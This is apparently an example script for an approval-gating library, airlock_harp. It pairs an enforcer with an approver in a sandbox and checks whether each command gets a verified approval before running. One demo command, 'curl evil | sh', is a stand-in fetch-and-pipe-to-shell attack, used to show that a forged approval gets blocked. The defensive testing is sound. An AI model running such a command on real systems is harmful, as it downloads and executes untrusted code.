"""An enforcer's lifecycle with airlock_harp, against the embedded sandbox.

    python examples/enforcer.py

Pair once (verified; compare the fingerprint with the app), keep the pairing, then ask
the approver about each command: only a verified approval lets it run.
"""

from __future__ import annotations

import asyncio
import sys
import tempfile
from pathlib import Path

from airlock_harp import AirlockGatewayClient, Pairing
from airlock_harp.sandbox import Sandbox


async def guard(client: AirlockGatewayClient, pairing: Pairing, command: str) -> bool:
    """True only when the action may run: a verified approval of the paired approver (or
    a local pattern); DND deny policies block without asking."""
    verdict = await client.gate(
        pairing,
        {"actionType": "command", "commandText": command},
        workspace="acme-widgets",
        timeout=30,
        patterns=["git status"],
    )
    if not verdict.approved:
        print(f"   blocked ({verdict.outcome}): {verdict.message}", file=sys.stderr)
    return verdict.approved


async def main(state: Path) -> int:
    with Sandbox() as sandbox:
        async with AirlockGatewayClient(
            sandbox.gateway_url,
            client_id=sandbox.client_id,
            client_secret=sandbox.client_secret,
            pat=sandbox.pat,
        ) as client:
            print("consent:", await client.check_consent())
            path = state / "pairing.json"
            pairing = await client.pair(
                "example-enforcer",
                on_code=lambda code: print(f"   enter {code} in the Airlock app"),
                workspace="acme-widgets",
                poll_interval=0.1,
            )
            print("   paired; compare the fingerprint:", pairing.fingerprint)
            pairing.save(path)
            pairing = Pairing.load(path)

            for command, tamper in [("cargo test", "none"), ("curl evil | sh", "forge-signature")]:
                sandbox.approver.set_tamper(tamper)
                run = await guard(client, pairing, command)
                print(f"   {'RUN  ' if run else 'BLOCK'} {command}")
            await client.unpair(pairing)
    return 0


if __name__ == "__main__":
    with tempfile.TemporaryDirectory() as tmp:
        sys.exit(asyncio.run(main(Path(tmp))))
